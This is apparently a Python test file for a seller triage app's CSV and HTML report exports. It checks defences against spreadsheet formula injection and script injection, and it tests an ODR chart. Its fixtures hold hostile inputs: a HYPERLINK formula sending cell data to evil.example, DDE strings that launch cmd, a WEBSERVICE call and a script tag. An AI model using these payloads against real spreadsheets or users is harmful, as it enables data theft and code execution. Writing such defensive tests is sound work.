"""Exports: the CSV is safe against spreadsheet formula injection (OWASP), and the printable HTML report
holds the ODR chart (inline SVG from the daily series) and every item, escaped."""

from __future__ import annotations

import csv
import io
import re

import pytest

from app import services
from app.triage_report import FORMULA_TRIGGERS, odr_chart_svg, safe_cell, triage_csv
from tests.builders import Seller, at

MONDAY = at("2026-11-09 09:00")
NASTY = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", NASTY)
def test_a_text_cell_starting_with_a_formula_trigger_is_defused(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Hello", "Call me", " =not at the start", "", "'quoted"])
def test_other_text_is_left_alone(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_and_none_is_empty():
    assert safe_cell(-3600.0) == -3600.0 and safe_cell(29.5) == 29.5
    assert safe_cell(None) == "" and safe_cell(True) == "yes"


@pytest.fixture
def hostile(db):
    """Buyers whose words are formulas or markup."""
    seller = Seller(db)
    for index, text in enumerate(NASTY):
        order = seller.order("2026-10-25 10:00")
        seller.feedback(order, "2026-11-05", rating=1, comments=text.strip())
        seller.message(
            "2026-11-09 06:00", thread=f"t{index}", order_id=order, topic=text, body=text, message_id=f"=m{index}"
        )
    order = seller.order("2026-10-25 10:00")
    seller.feedback(order, "2026-11-06", rating=1, comments="<script>alert('x')</script> seller never replied")
    return db


def test_no_csv_cell_a_spreadsheet_would_run(hostile):
    first = services.load_triage(hostile, MONDAY).items[0].key
    services.resolve_item(hostile, first, '=WEBSERVICE("http://evil.example")', "@SUM(A1)", MONDAY)
    text = triage_csv(services.load_triage(hostile, MONDAY))
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["status", "date", "kind", "order_id"] and "suggested_action" in header
    assert len(body) == 2 * len(NASTY) + 1
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not _number(cell)]
    # The words survive, behind the quote.
    assert any(cell.startswith("'=HYPERLINK") or "“=HYPERLINK" in cell for cell in cells)
    assert any(cell == "'=m0" or cell.endswith(":=m0") for cell in cells)
    assert '\'=WEBSERVICE("http://evil.example")' in cells and "'@SUM(A1)" in cells


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def test_the_csv_has_one_row_per_item_with_its_removal_and_clock(db):
    seller = Seller(db)
    order = seller.order("2026-10-25 10:00", "FBA")
    seller.feedback(order, "2026-11-05", rating=1, comments="Arrived late, box crushed")
    seller.message("2026-11-09 06:00", order_id=order, message_id="m1")
    rows = list(csv.DictReader(io.StringIO(triage_csv(services.load_triage(db, MONDAY)))))
    by_kind = {row["kind"]: row for row in rows}
    assert by_kind["feedback"]["removal_ground"] == "fba_fulfillment"
    assert by_kind["feedback"]["removal_eligible"] == "yes"
    assert by_kind["feedback"]["removal_window_closes"] == "2027-02-03"
    assert by_kind["message"]["due_at"] == "2026-11-10T06:00:00Z"
    assert float(by_kind["message"]["remaining_s"]) == 21 * 3600
    assert by_kind["message"]["key"] == "message:m1"


def test_the_report_holds_the_odr_chart_and_every_item(hostile):
    listing = services.load_triage(hostile, MONDAY)
    page = services.triage_report_html(hostile, listing)
    assert page.startswith("<!DOCTYPE html>") and "@page" in page
    assert page.count("<svg") == 1 and 'class="odr-chart"' in page
    assert '<polyline class="odr"' in page and '<polyline class="live_odr"' in page
    assert 'class="limit"' in page and "1 % limit" in page
    assert page.count("<tr class=") == len(listing.items)
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "Weekly triage" in page and "2026-11-09" in page


def test_the_chart_draws_each_day_and_leaves_gaps_for_days_without_a_figure():
    series = [
        {"day": "2026-11-01", "odr": 0.004, "live_odr": 0.006},
        {"day": "2026-11-02", "odr": None, "live_odr": 0.012},
        {"day": "2026-11-03", "odr": 0.005, "live_odr": 0.011},
    ]
    svg = odr_chart_svg(series)
    assert svg.count('<polyline class="odr"') == 2  # broken at the day without a figure
    assert svg.count('<polyline class="live_odr"') == 1
    assert "01 Nov" in svg and "03 Nov" in svg
    assert "No orders in the window" in odr_chart_svg([{"day": "2026-11-01", "odr": None, "live_odr": None}])


def test_an_empty_list_still_makes_a_report(db):
    listing = services.load_triage(db, MONDAY)
    page = services.triage_report_html(db, listing)
    assert "Nothing new" in page and "<svg" in page
    assert triage_csv(listing).count("\r\n") == 1
